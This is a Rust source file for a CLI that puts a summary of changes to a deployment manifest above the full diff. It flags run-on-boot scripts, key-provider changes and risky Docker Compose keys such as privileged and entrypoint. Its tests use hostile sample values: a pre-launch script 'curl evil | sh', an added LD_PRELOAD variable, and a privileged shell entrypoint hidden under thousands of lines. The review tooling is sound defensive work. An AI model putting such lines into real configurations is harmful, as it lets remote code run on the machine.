//! Which kinds of things change, before any of it is shown line by line: what runs by itself first. Pure.
//!
//! A difference of thousands of lines hides what comes after it; this stands above it and is as long as there are fields.

use std::collections::BTreeMap;

use serde_json::Value;

use crate::cli::show::text::Page;
use crate::compose::FieldChange;

/// Fields of the manifest that are known by a name of their own; those that run by themselves first, then those that change
/// who can do what: which machine may run it, who gives the keys, what can be reached and read, what no hash of the text
/// covers.
const KNOWN: [(&str, &str); 25] = [
    ("init_script", "init script"),
    ("pre_launch_script", "pre-launch script"),
    ("bash_script", "bash script"),
    ("requirements", "what the machine has to be"),
    ("key_provider", "who gives the keys"),
    ("key_provider_id", "which key provider"),
    ("kms_enabled", "keys of the KMS"),
    ("local_key_provider_enabled", "keys of the machine"),
    ("port_policy", "ports that the gateway opens"),
    ("gateway_enabled", "gateway"),
    ("tproxy_enabled", "gateway, by its older name"),
    ("verity_volumes", "volumes that are mounted"),
    ("no_instance_id", "no instance id"),
    ("secure_time", "time that is checked"),
    ("public_logs", "public logs"),
    ("public_sysinfo", "public system information"),
    ("public_tcbinfo", "public measurements"),
    ("docker_compose_file", "Docker Compose text"),
    ("allowed_envs", "environment names"),
    ("docker_config", "registry credentials"),
    ("manifest_version", "manifest version"),
    ("event_log_version", "event log version"),
    ("storage_fs", "file system"),
    ("swap_size", "swap"),
    ("features", "features"),
];
/// Fields whose text is run as it is.
const SCRIPTS: [&str; 3] = ["init_script", "pre_launch_script", "bash_script"];
/// What a service says where it is given more than an image: a new line with one of these is counted.
const TELLING: [&str; 14] = [
    "build",
    "cap_add",
    "command",
    "configs",
    "devices",
    "entrypoint",
    "extends",
    "include",
    "network_mode",
    "pid",
    "privileged",
    "security_opt",
    "userns_mode",
    "volumes",
];
/// Names that are listed one by one; more are counted.
const LISTED: usize = 12;

/// One line for each field that changes; nothing where none does.
pub(in crate::cli) fn kinds(page: &mut Page, changes: &[FieldChange]) {
    if changes.is_empty() {
        return;
    }
    let facts: Vec<(String, Option<String>)> = in_order(changes)
        .into_iter()
        .map(|change| (named(&change.field), Some(told(change))))
        .collect();
    page.heading("kinds of change, each shown in full below");
    page.facts(&facts);
}

/// The changes in the order in which people read them.
pub(in crate::cli) fn in_order(changes: &[FieldChange]) -> Vec<&FieldChange> {
    let rank = |change: &&FieldChange| {
        KNOWN
            .iter()
            .position(|(field, _)| *field == change.field)
            .unwrap_or(KNOWN.len())
    };
    let mut sorted: Vec<&FieldChange> = changes.iter().collect();
    sorted.sort_by_key(rank);
    sorted
}

fn named(field: &str) -> String {
    let known = KNOWN.iter().find(|(name, _)| *name == field);
    known.map_or_else(|| field.to_owned(), |(_, name)| (*name).to_owned())
}

fn told(change: &FieldChange) -> String {
    let (before, after) = (change.before.as_ref(), change.after.as_ref());
    if let (None | Some(Value::Array(_)), None | Some(Value::Array(_))) = (before, after) {
        return lists(&items(before), &items(after));
    }
    let (before, after) = (text(before), text(after));
    let mut told = match (before.is_empty(), after.is_empty()) {
        (true, false) => format!("NEW, {} lines", after.lines().count()),
        (false, true) => format!("GONE, {} lines", before.lines().count()),
        _ => {
            let (added, gone) = (only(&before, &after), only(&after, &before));
            format!("{} lines come, {} lines go", added.len(), gone.len())
        }
    };
    if SCRIPTS.contains(&change.field.as_str()) && !after.is_empty() {
        told.push_str("; IT RUNS ON THE MACHINE");
    }
    if change.field == "docker_compose_file" {
        told.push_str(&telling(&only(&before, &after)));
    }
    told
}

/// Which new lines of a Docker Compose text say more than an image, by their first words.
fn telling(added: &[&str]) -> String {
    let mut counts: BTreeMap<&str, usize> = BTreeMap::new();
    for line in added {
        let bare = line
            .trim_start()
            .trim_start_matches("- ")
            .trim_start_matches(['"', '\'']);
        let key: &str = bare.split([':', '"', '\'']).next().unwrap_or_default().trim_end();
        if let Some(known) = TELLING.iter().find(|known| **known == key) {
            let count = counts.entry(known).or_default();
            *count = count.saturating_add(1);
        }
    }
    if counts.is_empty() {
        return String::new();
    }
    let each: Vec<String> = counts.iter().map(|(key, count)| format!("{key} ({count})")).collect();
    format!("; new among them: {}", each.join(", "))
}

fn lists(before: &[String], after: &[String]) -> String {
    let come: Vec<&String> = after.iter().filter(|one| !before.contains(one)).collect();
    let gone: Vec<&String> = before.iter().filter(|one| !after.contains(one)).collect();
    let listed = |names: &[&String], word: &str| {
        let shown: Vec<&str> = names.iter().take(LISTED).map(|name| name.as_str()).collect();
        let more = names.len().saturating_sub(LISTED);
        let more = if more > 0 {
            format!(" and {more} more")
        } else {
            String::new()
        };
        (!names.is_empty()).then(|| format!("{word} {}{more}", shown.join(", ")))
    };
    let both: Vec<String> = [listed(&come, "NEW"), listed(&gone, "GONE")]
        .into_iter()
        .flatten()
        .collect();
    if both.is_empty() {
        return "in another order".to_owned();
    }
    both.join("; ")
}

fn items(value: Option<&Value>) -> Vec<String> {
    let items = value.and_then(Value::as_array).into_iter().flatten();
    items
        .map(|item| item.as_str().map_or_else(|| item.to_string(), ToOwned::to_owned))
        .collect()
}

fn text(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(other) => format!("{other:#}"),
    }
}

/// Lines of `after` that `before` has not, as often as it has them fewer times.
fn only<'a>(before: &str, after: &'a str) -> Vec<&'a str> {
    let mut known: BTreeMap<&str, usize> = BTreeMap::new();
    for line in before.lines() {
        let count = known.entry(line).or_default();
        *count = count.saturating_add(1);
    }
    let mut left = Vec::new();
    for line in after.lines() {
        match known.get_mut(line) {
            Some(count) if *count > 0 => *count = count.saturating_sub(1),
            _ => left.push(line),
        }
    }
    left
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn change(field: &str, before: Option<Value>, after: Option<Value>) -> FieldChange {
        FieldChange {
            field: field.to_owned(),
            before,
            after,
        }
    }

    #[test]
    fn sec_l6_a_script_stands_above_thousands_of_lines() {
        let many: String = (0..3000).map(|at| format!("# {at}\n")).collect();
        let after = format!("services:\n{many}    privileged: true\n    entrypoint: [sh]\n");
        let changes = [
            change("docker_compose_file", Some(json!("services:\n")), Some(json!(after))),
            change("zeta", Some(json!(1)), Some(json!(2))),
            change(
                "allowed_envs",
                Some(json!(["A", "B"])),
                Some(json!(["A", "LD_PRELOAD"])),
            ),
            change("pre_launch_script", None, Some(json!("curl evil | sh\n"))),
        ];
        let mut page = Page::default();
        kinds(&mut page, &changes);
        let shown = page.text(None);
        let lines: Vec<&str> = shown.lines().collect();
        assert_eq!(lines.len(), 5, "{shown}");
        assert!(lines[1].contains("pre-launch script") && lines[1].contains("NEW, 1 lines; IT RUNS ON THE MACHINE"));
        assert!(lines[2].contains("3002 lines come, 0 lines go; new among them: entrypoint (1), privileged (1)"));
        assert!(lines[3].contains("environment names") && lines[3].contains("NEW LD_PRELOAD; GONE B"));
        assert!(lines[4].contains("zeta"), "{shown}");
    }

    #[test]
    fn what_changes_who_can_do_what_stands_before_the_text_that_runs() {
        let fields = [
            "allowed_envs",
            "docker_compose_file",
            "init_script",
            "port_policy",
            "requirements",
            "swap_size",
        ];
        let changes = fields.map(|field| change(field, None, Some(json!({"a": 1}))));
        let order: Vec<&str> = in_order(&changes).into_iter().map(|one| one.field.as_str()).collect();
        let first = [
            "init_script",
            "requirements",
            "port_policy",
            "docker_compose_file",
            "allowed_envs",
            "swap_size",
        ];
        assert_eq!(order, first);
        let mut page = Page::default();
        kinds(&mut page, &changes);
        let shown = page.text(None);
        assert!(
            shown.contains("what the machine has to be") && shown.contains("NEW, 3 lines"),
            "{shown}"
        );
    }

    #[test]
    fn a_line_that_is_moved_or_doubled_is_counted_as_often_as_it_comes() {
        assert_eq!(only("a\nb\n", "b\na\na\n"), ["a"]);
        assert_eq!(
            told(&change(
                "allowed_envs",
                Some(json!(["A", "B"])),
                Some(json!(["B", "A"]))
            )),
            "in another order"
        );
        assert_eq!(told(&change("init_script", Some(json!("x\ny")), None)), "GONE, 2 lines");
    }
}
